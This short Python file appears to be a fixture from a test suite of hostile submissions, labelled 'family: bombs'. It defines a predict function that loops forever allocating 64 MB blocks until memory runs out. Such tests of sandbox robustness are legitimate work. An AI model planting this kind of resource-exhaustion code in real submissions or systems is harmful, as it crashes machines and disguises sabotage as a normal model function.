# family: bombs
# base: solved
# at: predict
# points: 85

def predict(w, b, X):
    hold = []
    while True:
        hold.append(bytearray(b"x") * (64 << 20))
